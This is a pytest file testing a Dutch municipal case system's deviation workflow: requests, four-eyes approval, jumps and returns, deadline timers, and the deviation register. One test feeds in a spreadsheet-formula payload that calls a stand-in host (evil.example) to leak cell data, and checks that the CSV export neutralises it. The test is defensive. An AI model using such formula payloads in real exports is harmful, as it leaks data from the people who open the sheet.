"""Deviations end to end through the API: request, four eyes, execution, register, record."""
from __future__ import annotations

import csv
import io
import re
from datetime import datetime, timedelta
from typing import Any

import pytest
from flask.testing import FlaskClient

from conftest import csrf_token, login
from helpers import BIJSTAND_AANVRAAG, KAP_AANVRAAG, actions, bearer, complete, open_task, start
from helpers import start as start_case
from maatwerk.web.serializers import csv_cell

REASON = "De beleidsregel pakt voor deze inwoner onevenredig uit door hoge zorgkosten."
NOTICE = "We hebben meer tijd nodig om het advies van de arts af te wachten."


def _request(client: FlaskClient, token: str, case_id: int, expect: int = 201,
             **body: Any) -> dict[str, Any]:
    body.setdefault("reason", REASON)
    body.setdefault("legal_basis", "art. 4:84 Awb")
    response = client.post(f"/api/v1/cases/{case_id}/deviations", json=body,
                           headers=bearer(token))
    assert response.status_code == expect, response.get_json()
    result: dict[str, Any] = response.get_json()
    return result


def _approve(client: FlaskClient, token: str, deviation_id: int,
             expect: int = 200) -> dict[str, Any]:
    response = client.post(f"/api/v1/deviations/{deviation_id}/approve",
                           json={"comment": "Akkoord, goed onderbouwd."}, headers=bearer(token))
    assert response.status_code == expect, response.get_json()
    result: dict[str, Any] = response.get_json()
    return result


@pytest.fixture
def refused_case(client: FlaskClient, tokens: dict[str, str]) -> dict[str, Any]:
    """Bijstand whose means test says 'afwijzen' (income above the norm)."""
    case = start(client, tokens["consulent"], "bijzondere_bijstand",
                 dict(BIJSTAND_AANVRAAG, netto_inkomen=2500))
    status_url = case["status_url"]
    case = complete(client, tokens["consulent"], case, "Task_Volledigheid", {"volledig": "ja"})
    assert case["data"]["uitkomst"] == "afwijzen"
    return dict(case, status_url=status_url)


def test_refusal_overridden_to_a_grant_on_art_18_pw(client: FlaskClient, tokens: dict[str, str],
                                                     refused_case: dict[str, Any]) -> None:
    case_id = refused_case["id"]
    deviation = _request(client, tokens["consulent"], case_id, type="override_decision",
                         target_element_id="Task_Draagkracht",
                         values={"uitkomst": "toekennen"},
                         legal_basis="art. 18 lid 1 Participatiewet",
                         resident_message="U krijgt de bijstand toch, omdat uw situatie "
                                          "bijzonder is.")
    assert deviation["status"] == "requested"
    assert deviation["before"] == {"uitkomst": "afwijzen"}
    inbox = client.get(f"/api/v1/deviations/{deviation['id']}", headers=bearer(
        tokens["consulent"])).get_json()
    assert inbox["legal_basis"] == "art. 18 lid 1 Participatiewet"
    approved = _approve(client, tokens["teamleider"], deviation["id"])
    assert approved["status"] == "approved" and approved["decided_by"] == "teamleider"
    assert approved["before"] == {"uitkomst": "afwijzen"}
    assert approved["after"] == {"uitkomst": "toekennen"}
    case = approved["case"]
    assert case["data"]["uitkomst"] == "toekennen"
    assert case["next_timer_at"] == refused_case["next_timer_at"]  # the 8 weeks run on
    vierogen = {"akkoord": True, "vierogen_toelichting": "Maatwerk is terecht."}
    own = client.post(f"/api/v1/tasks/{open_task(case, 'Task_Vierogen')['id']}/complete",
                      json={"data": vierogen}, headers=bearer(tokens["teamleider"]))
    assert own.status_code == 403, "who approved the override may not check it"
    assert "the deviation on Task_Draagkracht" in own.get_json()["error"]
    case = complete(client, tokens["teamleider2"], case, "Task_Vierogen", vierogen)
    assert case["status"] == "completed" and "betaalkenmerk" in case["data"]
    history = actions(client, tokens["consulent"], case_id)
    assert {"deviation_requested", "deviation_approved"} <= set(history)
    verify = client.get("/api/v1/audit/verify", headers=bearer(tokens["teamleider"]))
    assert verify.get_json()["ok"] is True
    register = client.get("/api/v1/deviations?legal_basis=art. 18 lid 1 Participatiewet",
                          headers=bearer(tokens["teamleider"])).get_json()
    assert register["counts"]["type"] == {"override_decision": 1}
    assert register["counts"]["process"] == {"bijzondere_bijstand": 1}
    assert register["counts"]["element"] == {"Task_Draagkracht": 1}
    assert [d["id"] for d in register["deviations"]] == [deviation["id"]]


def test_the_requester_never_approves_their_own_request(
        client: FlaskClient, tokens: dict[str, str], refused_case: dict[str, Any]) -> None:
    own = _request(client, tokens["teamleider"], refused_case["id"], type="override_decision",
                   target_element_id="Task_Draagkracht", values={"uitkomst": "toekennen"})
    refused = _approve(client, tokens["teamleider"], own["id"], expect=403)
    assert "four-eyes" in refused["error"]
    assert _approve(client, tokens["consulent2"], own["id"], expect=403)  # no mandate
    still = client.get(f"/api/v1/deviations/{own['id']}", headers=bearer(tokens["consulent"]))
    assert still.get_json()["status"] == "requested"


def test_withdraw_and_reject(client: FlaskClient, tokens: dict[str, str],
                             refused_case: dict[str, Any]) -> None:
    first = _request(client, tokens["consulent"], refused_case["id"], type="override_decision",
                     target_element_id="Task_Draagkracht", values={"uitkomst": "toekennen"})
    other = client.post(f"/api/v1/deviations/{first['id']}/withdraw",
                        headers=bearer(tokens["consulent2"]))
    assert other.status_code == 403
    withdrawn = client.post(f"/api/v1/deviations/{first['id']}/withdraw",
                            headers=bearer(tokens["consulent"]))
    assert withdrawn.get_json()["status"] == "withdrawn"
    assert _approve(client, tokens["teamleider"], first["id"], expect=409)
    second = _request(client, tokens["consulent"], refused_case["id"], type="override_decision",
                      target_element_id="Task_Draagkracht", values={"uitkomst": "toekennen"})
    no_reason = client.post(f"/api/v1/deviations/{second['id']}/reject", json={},
                            headers=bearer(tokens["teamleider"]))
    assert no_reason.status_code == 422
    rejected = client.post(f"/api/v1/deviations/{second['id']}/reject",
                           json={"comment": "Het inkomen is echt te hoog."},
                           headers=bearer(tokens["teamleider"]))
    assert rejected.get_json()["status"] == "rejected"
    case = client.get(f"/api/v1/cases/{refused_case['id']}", headers=bearer(tokens["consulent"]))
    assert case.get_json()["data"]["uitkomst"] == "afwijzen"  # nothing changed


def test_request_validation_names_the_fields(client: FlaskClient, tokens: dict[str, str],
                                             refused_case: dict[str, Any]) -> None:
    errors = _request(client, tokens["consulent"], refused_case["id"], expect=422,
                      type="override_decision", target_element_id="Task_Draagkracht",
                      values={"uitkomst": "toekennen"}, reason="Moet", legal_basis="art. 1")
    assert {"reason", "legal_basis"} <= set(errors["errors"])
    errors = _request(client, tokens["consulent"], refused_case["id"], expect=422,
                      type="override_decision", target_element_id="Task_Draagkracht",
                      values={"uitkomst": "toekennen"}, legal_basis="anders")
    assert "citation" in errors["errors"]
    ok = _request(client, tokens["consulent"], refused_case["id"], type="override_decision",
                  target_element_id="Task_Draagkracht", values={"uitkomst": "toekennen"},
                  legal_basis="anders", citation="Beleidsregel bijzondere bijstand, art. 7")
    assert ok["citation"].startswith("Beleidsregel")
    errors = _request(client, tokens["consulent"], refused_case["id"], expect=422,
                      type="teleport")
    assert "type" in errors["errors"]


def test_designer_forbids_skipping_the_four_eyes_check(
        client: FlaskClient, tokens: dict[str, str], refused_case: dict[str, Any]) -> None:
    case = complete(client, tokens["consulent"], refused_case, "Task_ContactAfwijzing", {
        "gesprek_datum": "2026-11-20", "gesprek_vorm": "telefoon",
        "gesprek_verslag": "Besproken dat het inkomen boven de norm ligt."})
    task = open_task(case, "Task_Vierogen")
    refused = _request(client, tokens["consulent"], case["id"], expect=422, type="skip_task",
                       task_id=task["id"])
    assert "maatwerk:deviations" in refused["error"]
    allowed = _request(client, tokens["consulent"], case["id"], type="reassign",
                       task_id=task["id"], values={"assignee": "teamleider"})
    assert allowed["status"] == "requested"


CONTACT = {"gesprek_datum": "2026-11-20", "gesprek_vorm": "telefoon",
           "gesprek_verslag": "Besproken dat het inkomen boven de norm ligt."}


def test_a_jump_may_not_pass_over_or_land_on_a_step_that_forbids_it(
        client: FlaskClient, tokens: dict[str, str], refused_case: dict[str, Any]) -> None:
    task = open_task(refused_case, "Task_ContactAfwijzing")
    past = _request(client, tokens["consulent"], refused_case["id"], expect=422,
                    type="jump_to", task_id=task["id"], target_element_id="Task_Herbeoordeling")
    assert "Task_Vierogen" in past["error"] and "pass or land on" in past["error"], past
    assert "Task_Vierogen" in past["errors"]["target_element_id"]
    onto = _request(client, tokens["consulent"], refused_case["id"], expect=422,
                    type="jump_to", task_id=task["id"], target_element_id="Task_Vierogen")
    assert "Task_Vierogen" in onto["error"], onto
    register = client.get("/api/v1/deviations", headers=bearer(tokens["teamleider"]))
    assert [d for d in register.get_json()["deviations"]
            if d["case_id"] == refused_case["id"]] == [], "nothing was requested"


def test_a_return_may_not_go_back_over_a_step_that_forbids_it(
        client: FlaskClient, tokens: dict[str, str], refused_case: dict[str, Any]) -> None:
    case = complete(client, tokens["consulent"], refused_case, "Task_ContactAfwijzing", CONTACT)
    case = complete(client, tokens["teamleider"], case, "Task_Vierogen", {
        "akkoord": False, "vierogen_toelichting": "Het gesprek moet opnieuw, met tolk."})
    open_task(case, "Task_Herbeoordeling")
    back = _request(client, tokens["consulent"], case["id"], expect=422, type="return_to",
                    target_element_id="Task_ContactAfwijzing")
    assert "Task_Vierogen" in back["error"], back
    # a return that stays before the four-eyes check is still possible
    earlier = start(client, tokens["consulent"], "bijzondere_bijstand",
                    dict(BIJSTAND_AANVRAAG, netto_inkomen=2500))
    earlier = complete(client, tokens["consulent"], earlier, "Task_Volledigheid",
                       {"volledig": "ja"})
    allowed = _request(client, tokens["consulent"], earlier["id"], type="return_to",
                       target_element_id="Task_Volledigheid")
    assert allowed["status"] == "requested"


def _at_the_tree_advice(client: FlaskClient, token: str) -> tuple[dict[str, Any],
                                                                  dict[str, Any]]:
    """A permit case whose tree expert's advice (one of two parallel steps) is open."""
    case = start(client, token, "kapvergunning", KAP_AANVRAAG)
    case = complete(client, token, case, "Task_Beoordelen",
                    {"ontvankelijk": True, "boomstatus": "gewoon"})
    return case, open_task(case, "Task_AdviesBomen")


def test_stale_approval_changes_nothing(client: FlaskClient, tokens: dict[str, str]) -> None:
    token = tokens["vergunning"]
    case, task = _at_the_tree_advice(client, token)
    deviation = _request(client, token, case["id"], type="skip_task", task_id=task["id"])
    done = client.post(f"/api/v1/tasks/{task['id']}/complete", headers=bearer(token), json={
        "data": {"boom_conditie": "goed", "advies_bomen": "positief",
                 "advies_toelichting": "Een gezonde eik."}})
    assert done.status_code == 200, done.get_json()
    before = actions(client, token, case["id"])
    conflict = _approve(client, tokens["teamleider"], deviation["id"], expect=409)
    assert "moved on" in conflict["error"]
    assert actions(client, token, case["id"]) == before
    again = client.get(f"/api/v1/deviations/{deviation['id']}", headers=bearer(
        token)).get_json()
    assert again["status"] == "requested"


def _skip_on_the_page(client: FlaskClient, case_id: int, task_id: str) -> str:
    """Ask to skip a task on the deviation page (signed in already); the refusing page."""
    page = client.get(f"/werk/zaken/{case_id}/afwijking").get_data(as_text=True)
    response = client.post(f"/werk/zaken/{case_id}/afwijking", data={
        "csrf_token": csrf_token(page), "type": "skip_task", "task_id": task_id,
        "reason": REASON, "legal_basis": "art. 4:84 Awb"})
    assert response.status_code == 422
    return response.get_data(as_text=True)


def test_a_deviation_that_cannot_work_is_refused_when_asked(
        client: FlaskClient, tokens: dict[str, str]) -> None:
    """Skipping 'Volledigheid controleren' leaves the gateway after it without the answer it
    routes on: tried on a copy of the case, as approval would run it, the request is refused
    with the reason, in Dutch on the page, and nothing is saved."""
    case = start(client, tokens["consulent"], "bijzondere_bijstand", BIJSTAND_AANVRAAG)
    task = open_task(case, "Task_Volledigheid")
    refused = _request(client, tokens["consulent"], case["id"], expect=422, type="skip_task",
                       task_id=task["id"])
    assert "can't work on the case as it is now" in refused["error"]
    assert "Gateway_Volledig" in refused["error"] and "Nothing was saved" in refused["error"]
    login(client, "consulent")
    assert "Deze afwijking kan in de zaak zoals die nu is niet worden uitgevoerd" in \
        _skip_on_the_page(client, case["id"], task["id"])
    assert "deviation_requested" not in actions(client, tokens["consulent"], case["id"])
    after = client.get(f"/api/v1/cases/{case['id']}", headers=bearer(tokens["consulent"]))
    assert [t["element_id"] for t in after.get_json()["open_tasks"]] == ["Task_Volledigheid"]


def test_permit_check_skipped_and_another_redone(client: FlaskClient,
                                                 tokens: dict[str, str]) -> None:
    token = tokens["vergunning"]
    case = start(client, token, "kapvergunning", KAP_AANVRAAG)
    case = complete(client, token, case, "Task_Beoordelen",
                    {"ontvankelijk": True, "boomstatus": "gewoon"})
    skip = _request(client, token, case["id"], type="skip_task",
                    task_id=open_task(case, "Task_AdviesBomen")["id"],
                    reason="Een bomendeskundige heeft deze boom vorige maand al beoordeeld.")
    approved = _approve(client, tokens["teamleider"], skip["id"])
    case = approved["case"]
    assert [t["element_id"] for t in case["open_tasks"]] == ["Task_ToetsOmgevingsplan"]
    case = complete(client, token, case, "Task_ToetsOmgevingsplan", _toets_data())
    assert [t["element_id"] for t in case["open_tasks"]] == ["Task_Besluit"]
    redo = _request(client, token, case["id"], type="return_to",
                    target_element_id="Task_ToetsOmgevingsplan",
                    reason="De toets gebruikte het oude omgevingsplan; die moet opnieuw.")
    case = _approve(client, tokens["teamleider"], redo["id"])["case"]
    assert [t["element_id"] for t in case["open_tasks"]] == ["Task_ToetsOmgevingsplan"]
    history = actions(client, token, case["id"])
    assert "task_cancelled" in history  # Task_Besluit was withdrawn, and is still on record
    tasks = client.get(f"/api/v1/tasks?case_id={case['id']}", headers=bearer(token)).get_json()
    assert [t["element_id"] for t in tasks["tasks"]] == ["Task_ToetsOmgevingsplan"]


def _toets_data() -> dict[str, Any]:
    import json
    from pathlib import Path
    form = json.loads((Path(__file__).resolve().parents[1] / "forms" /
                       "toets_omgevingsplan.form").read_text())
    data: dict[str, Any] = {}
    for component in form["components"]:
        key, kind = component.get("key"), component.get("type")
        if not key:
            continue
        if kind in ("radio", "select"):
            data[key] = component["values"][0]["value"]
        elif kind == "checklist":
            data[key] = [component["values"][0]["value"]]
        elif kind == "checkbox":
            data[key] = True
        elif kind in ("textfield", "textarea"):
            data[key] = "Past binnen het omgevingsplan, geen bijzonderheden."
    return data


def test_added_step_must_be_done_first(client: FlaskClient, tokens: dict[str, str]) -> None:
    case = start(client, tokens["consulent"], "bijzondere_bijstand", BIJSTAND_AANVRAAG)
    task = open_task(case, "Task_Volledigheid")
    deviation = _request(client, tokens["consulent"], case["id"], type="add_task",
                         task_id=task["id"], values={
                             "title": "Huisbezoek afleggen",
                             "instructions": "Bekijk de woonsituatie ter plaatse."},
                         reason="De aanvraag is niet te beoordelen zonder de woning te zien.")
    case = _approve(client, tokens["teamleider"], deviation["id"])["case"]
    added = open_task(case, "adhoc:" + str(deviation["id"]))
    assert added["name"] == "Huisbezoek afleggen"
    blocked = client.post(f"/api/v1/tasks/{task['id']}/complete",
                          json={"data": {"volledig": "ja"}}, headers=bearer(tokens["consulent"]))
    assert blocked.status_code == 409 and "Huisbezoek" in blocked.get_json()["error"]
    # the added step has a form of its own for what was found: the findings are asked
    empty = client.post(f"/api/v1/tasks/{added['id']}/complete", json={"data": {}},
                        headers=bearer(tokens["consulent"]))
    assert empty.status_code == 422 and set(empty.get_json()["errors"]) == {"bevindingen"}
    done = client.post(f"/api/v1/tasks/{added['id']}/complete",
                       json={"data": {"bevindingen": "Woning bezocht; de wasmachine is kapot."}},
                       headers=bearer(tokens["consulent"]))
    assert done.status_code == 200
    assert "bevindingen" not in done.get_json()["data"]  # on record, not in the case data
    complete(client, tokens["consulent"], done.get_json(), "Task_Volledigheid",
             {"volledig": "ja"})


def test_correct_data_and_reassign(client: FlaskClient, tokens: dict[str, str]) -> None:
    case = start(client, tokens["consulent"], "bijzondere_bijstand", BIJSTAND_AANVRAAG)
    task = open_task(case, "Task_Volledigheid")
    fix = _request(client, tokens["consulent"], case["id"], type="correct_data",
                   values={"bedrag": 400}, reason="Het bedrag op de offerte is 400 euro, niet 650.")
    approved = _approve(client, tokens["teamleider"], fix["id"])
    assert approved["before"] == {"bedrag": 650} and approved["after"] == {"bedrag": 400}
    assert approved["case"]["data"]["bedrag"] == 400
    handover = _request(client, tokens["consulent"], case["id"], type="reassign",
                        task_id=task["id"], values={"assignee": "consulent2"},
                        reason="Collega kent deze inwoner al van een eerdere aanvraag.")
    case = _approve(client, tokens["teamleider"], handover["id"])["case"]
    assert open_task(case, "Task_Volledigheid")["assignee"] == "consulent2"
    # with the lower amount the grant needs no four-eyes check
    case = complete(client, tokens["consulent2"], case, "Task_Volledigheid", {"volledig": "ja"})
    assert case["status"] == "completed"


def test_pages_show_the_deviation_to_caseworker_lead_and_resident(
        client: FlaskClient, tokens: dict[str, str], refused_case: dict[str, Any]) -> None:
    deviation = _request(client, tokens["consulent"], refused_case["id"],
                         type="override_decision", target_element_id="Task_Draagkracht",
                         values={"uitkomst": "toekennen"})
    login(client, "teamleider")
    queue = client.get("/werk/goedkeuren").get_data(as_text=True)
    assert REASON in queue and "Goedkeuren en uitvoeren" in queue
    assert "1 afwijking wacht" in client.get("/werk/").get_data(as_text=True)
    _approve(client, tokens["teamleider"], deviation["id"])
    register = client.get("/werk/afwijkingen").get_data(as_text=True)
    assert "Task_Draagkracht" in register and "art. 4:84 Awb" in register
    [row] = _rows(client.get("/werk/afwijkingen?format=csv").get_data(as_text=True))
    assert (row["Zaak"], row["Soort"], row["Status"], row["Gewijzigd veld"], row["Was"],
            row["Wordt"], row["Aangevraagd door"], row["Besloten door"],
            row["Toelichting bij het besluit"]) == (
        refused_case["reference"], "Uitkomst van een beslissing aanpassen", "Goedgekeurd",
        "uitkomst", "afwijzen", "toekennen", "Chris Consulent", "Tara Teamleider",
        "Akkoord, goed onderbouwd.")
    assert re.fullmatch(r"\d\d-\d\d-20\d\d \d\d:\d\d", row["Besloten op"])
    status_url = refused_case["status_url"]  # kept from the start by the fixture
    resident = client.get(status_url).get_data(as_text=True)
    assert "Een beslissing op maat" in resident and REASON not in resident


def test_jump_forward_past_steps_that_do_not_apply(client: FlaskClient,
                                                   tokens: dict[str, str]) -> None:
    case = start(client, tokens["consulent"], "bijzondere_bijstand", BIJSTAND_AANVRAAG)
    task = open_task(case, "Task_Volledigheid")
    jump = _request(client, tokens["consulent"], case["id"], type="jump_to",
                    task_id=task["id"], target_element_id="Task_ContactAfwijzing",
                    reason="De aanvraag is vorige week al volledig beoordeeld bij de Wmo-melding.")
    case = _approve(client, tokens["teamleider"], jump["id"])["case"]
    assert [t["element_id"] for t in case["open_tasks"]] == ["Task_ContactAfwijzing"]
    assert "task_cancelled" in actions(client, tokens["consulent"], case["id"])


def test_jump_through_a_parallel_gateway_is_refused_and_changes_nothing(
        client: FlaskClient, tokens: dict[str, str]) -> None:
    token = tokens["vergunning"]
    case = start(client, token, "kapvergunning", KAP_AANVRAAG)
    refused = _request(client, token, case["id"], expect=422, type="jump_to",
                       target_element_id="Task_Besluit",
                       reason="De bomen zijn al door de brandweer beoordeeld na de storm.")
    assert "no path forward" in refused["error"]  # when asked, not when approved
    again = client.get(f"/api/v1/cases/{case['id']}", headers=bearer(token)).get_json()
    assert [t["element_id"] for t in again["open_tasks"]] == ["Task_Beoordelen"]


def test_return_across_a_waiting_boundary_timer_leaves_no_stale_timer(
        client: FlaskClient, tokens: dict[str, str], database: Any) -> None:
    from maatwerk.cli import run_worker_pass
    case = start(client, tokens["consulent"], "bijzondere_bijstand", BIJSTAND_AANVRAAG)
    eight_weeks = case["next_timer_at"]
    case = complete(client, tokens["consulent"], case, "Task_Volledigheid", {
        "volledig": "nee", "ontbrekende_gegevens": "De offerte ontbreekt."})
    assert case["next_timer_at"] < eight_weeks  # the P14D repair term of Task_Aanvulling
    assert case["deadline_suspended"] is True
    back = _request(client, tokens["consulent"], case["id"], type="return_to",
                    target_element_id="Task_Volledigheid",
                    reason="De offerte zat toch al bij de aanvraag, in een tweede bijlage.")
    case = _approve(client, tokens["teamleider"], back["id"])["case"]
    assert [t["element_id"] for t in case["open_tasks"]] == ["Task_Volledigheid"]
    # only the decision term is left: its timer waits for the decision date, moved on by
    # the moment the term stood still
    assert case["next_timer_at"] == case["due_at"] and case["due_at"] >= eight_weeks
    assert case["deadline_suspended"] is False
    assert run_worker_pass(database) == 0
    case = complete(client, tokens["consulent"], case, "Task_Volledigheid", {"volledig": "ja"})
    case = complete(client, tokens["teamleider"], case, "Task_Vierogen",
                    {"akkoord": True, "vierogen_toelichting": "In orde."})
    assert case["status"] == "completed"


def test_skipping_the_residents_task_cancels_its_repair_term(
        client: FlaskClient, tokens: dict[str, str]) -> None:
    case = start(client, tokens["consulent"], "bijzondere_bijstand", BIJSTAND_AANVRAAG)
    eight_weeks = case["next_timer_at"]
    case = complete(client, tokens["consulent"], case, "Task_Volledigheid", {
        "volledig": "nee", "ontbrekende_gegevens": "De offerte ontbreekt."})
    resident_task = open_task(case, "Task_Aanvulling")
    skip = _request(client, tokens["consulent"], case["id"], type="skip_task",
                    task_id=resident_task["id"],
                    reason="De inwoner heeft de offerte aan de balie afgegeven.")
    case = _approve(client, tokens["teamleider"], skip["id"])["case"]
    assert [t["element_id"] for t in case["open_tasks"]] == ["Task_Volledigheid"]  # the loop
    assert case["next_timer_at"] == case["due_at"] and case["due_at"] >= eight_weeks
    history = client.get(f"/api/v1/cases/{case['id']}/audit",
                         headers=bearer(tokens["consulent"])).get_json()["events"]
    assert "deadline_resumed" in [e["action"] for e in history]


def test_the_page_asks_for_an_extension_of_the_decision_term(
        client: FlaskClient, tokens: dict[str, str]) -> None:
    """Without JavaScript: weeks and the notice to the resident, checked in Dutch; approved,
    the decision date moves by those weeks."""
    case = start(client, tokens["consulent"], "bijzondere_bijstand", BIJSTAND_AANVRAAG)
    due = datetime.fromisoformat(case["due_at"])
    url = f"/werk/zaken/{case['id']}/afwijking?soort=extend_deadline"
    login(client, "consulent")
    form = {"type": "extend_deadline", "reason": REASON, "legal_basis": "art. 4:84 Awb"}

    page = client.get(url).get_data(as_text=True)
    assert 'name="weeks"' in page and 'type="number"' in page
    missing = client.post(url, data={**form, "csrf_token": csrf_token(page)})
    text = missing.get_data(as_text=True)
    assert missing.status_code == 422
    assert "Geef aan met hoeveel weken." in text
    assert "Schrijf de inwoner waarom er meer tijd nodig is" in text
    too_long = client.post(url, data={**form, "weeks": "60", "csrf_token": csrf_token(page),
                                      "resident_message": NOTICE})
    assert too_long.status_code == 422 and "Kies 1 tot" in too_long.get_data(as_text=True)
    register = "/api/v1/deviations?type=extend_deadline"
    assert client.get(register, headers=bearer(tokens["teamleider"])).get_json()[
        "deviations"] == []  # nothing was asked

    asked = client.post(url, data={**form, "weeks": "4", "resident_message": NOTICE,
                                   "csrf_token": csrf_token(page)})
    assert asked.status_code == 302
    [deviation] = client.get(register, headers=bearer(tokens["teamleider"])).get_json()[
        "deviations"]
    assert (deviation["type"], deviation["values"]) == ("extend_deadline", {"weeks": 4})
    approved = _approve(client, tokens["teamleider"], deviation["id"])["case"]
    assert datetime.fromisoformat(approved["due_at"]) - due == timedelta(weeks=4)
    resident = client.get(case["status_url"]).get_data(as_text=True)
    assert NOTICE in resident


@pytest.mark.parametrize("start", ["=", "+", "-", "@"])
def test_the_register_export_never_hands_a_spreadsheet_a_formula(
        client: FlaskClient, tokens: dict[str, str], start: str) -> None:
    case = start_case(client, tokens["consulent"], "bijzondere_bijstand", BIJSTAND_AANVRAAG)
    formula = f'{start}HYPERLINK("https://evil.example/?"&A1;"klik") {REASON}'
    _request(client, tokens["consulent"], case["id"], type="extend_deadline",
             values={"weeks": 2}, reason=formula,
             resident_message="Wij hebben twee weken meer nodig om goed te beslissen.")
    for text in (client.get("/api/v1/deviations?format=csv",
                            headers=bearer(tokens["consulent"])).get_data(as_text=True),
                 _signed_in_csv(client)):
        [row] = [r for r in _rows(text) if "HYPERLINK" in r["Reden"]]
        assert row["Reden"] == "'" + formula


def test_a_cell_that_starts_with_a_tab_or_return_is_neutralised_too() -> None:
    # the services strip the texts people write, so these come only from other data
    assert csv_cell("\tHYPERLINK()") == "'\tHYPERLINK()"
    assert csv_cell("\r=1+1") == "'\r=1+1"
    assert csv_cell("Gewone tekst") == "Gewone tekst" and csv_cell(-5) == -5


def _rows(text: str) -> list[dict[str, str]]:
    """The register's CSV as Dutch Excel reads it: a byte order mark, then ';' between."""
    assert text.startswith("\ufeff")
    return list(csv.DictReader(io.StringIO(text[1:], newline=""), delimiter=";"))


def _signed_in_csv(client: FlaskClient) -> str:
    login(client, "consulent")
    return client.get("/werk/afwijkingen?format=csv").get_data(as_text=True)


def test_a_designer_reads_the_register_without_any_residents_data(
        client: FlaskClient, tokens: dict[str, str], refused_case: dict[str, Any]) -> None:
    deviation = _request(client, tokens["consulent"], refused_case["id"],
                         type="override_decision", target_element_id="Task_Draagkracht",
                         values={"uitkomst": "toekennen"})
    _approve(client, tokens["teamleider"], deviation["id"])
    staff = client.get("/api/v1/deviations", headers=bearer(tokens["consulent"])).get_json()
    [seen] = staff["deviations"]
    assert seen["reason"] == REASON and seen["after"] == {"uitkomst": "toekennen"}
    designer = client.get("/api/v1/deviations", headers=bearer(tokens["ontwerper"])).get_json()
    [counted] = designer["deviations"]
    assert designer["counts"]["element"] == {"Task_Draagkracht": 1}
    assert counted["target_element_id"] == "Task_Draagkracht"
    assert counted["type"] == "override_decision" and counted["legal_basis"]
    for personal in ("case_id", "case_reference", "values", "before", "after", "reason",
                     "resident_message", "decision_comment", "task_id"):
        assert personal not in counted, personal
    text = str(designer)
    assert refused_case["reference"] not in text and "2500" not in text and REASON not in text
    login(client, "ontwerper")
    page = client.get("/werk/afwijkingen").get_data(as_text=True)
    assert "Task_Draagkracht" in page and REASON not in page
    assert refused_case["reference"] not in page
    exported = client.get("/werk/afwijkingen?format=csv").get_data(as_text=True)
    assert REASON not in exported and refused_case["reference"] not in exported
    [row] = _rows(exported)  # the field's name is the designer's; its values are not
    assert (row["Naar stap"], row["Gewijzigd veld"]) == ("Task_Draagkracht", "uitkomst")
    assert not {"Zaak", "Reden", "Was", "Wordt", "Toelichting bij het besluit"} & set(row)


def test_a_request_twice_or_beside_another_on_the_same_step_is_refused(
        client: FlaskClient, tokens: dict[str, str]) -> None:
    """Approving both would have the second undo or contradict the first: the same request
    sent twice, and a skip beside a reassignment of the same task, wait for the first to be
    decided or withdrawn. Requests on other steps or other data stay possible."""
    token = tokens["vergunning"]
    case, task = _at_the_tree_advice(client, token)
    skip = _request(client, token, case["id"], type="skip_task", task_id=task["id"])
    twice = _request(client, tokens["vergunning"], case["id"], expect=422, type="skip_task",
                     task_id=task["id"])
    assert "already asked for by vergunning and awaits a decision" in twice["error"]
    assert f"(request {skip['id']})" in twice["error"]
    beside = _request(client, token, case["id"], expect=422, type="reassign",
                      task_id=task["id"], values={"assignee": "consulent2"})
    assert "Another deviation of this step awaits a decision" in beside["error"]
    extend = _request(client, token, case["id"], type="extend_deadline", values={"weeks": 2},
                      resident_message=NOTICE)
    again = _request(client, token, case["id"], expect=422, type="extend_deadline",
                     values={"weeks": 4}, resident_message=NOTICE)
    assert f"(request {extend['id']}" in again["error"]
    _request(client, token, case["id"], type="correct_data", values={"boomsoort": "beuk"})
    other_field = _request(client, token, case["id"], type="correct_data",
                           values={"adres": "Dorpsstraat 2, Ons Dorp"})
    same_field = _request(client, token, case["id"], expect=422, type="correct_data",
                          values={"boomsoort": "linde"})
    assert "Another deviation of this step awaits a decision" in same_field["error"]
    assert other_field["status"] == "requested"
    # the register counts the extension under no step, by that name (not "None")
    login(client, "vergunning")
    register = client.get("/werk/afwijkingen").get_data(as_text=True)
    assert "Geen stap (de hele zaak)" in register and ">None<" not in register
    counts = client.get("/api/v1/deviations", headers=bearer(token)).get_json()["counts"]
    assert counts["element"] == {"Task_AdviesBomen": 1, "": 3}  # extension, corrections
    # on the page, in Dutch
    assert "Deze afwijking is al aangevraagd door vergunning en wacht op een besluit" in \
        _skip_on_the_page(client, case["id"], task["id"])
    # once the first is withdrawn, the step is free again
    assert client.post(f"/api/v1/deviations/{skip['id']}/withdraw",
                       headers=bearer(token)).status_code == 200
    _request(client, token, case["id"], type="reassign", task_id=task["id"],
             values={"assignee": "consulent2"})
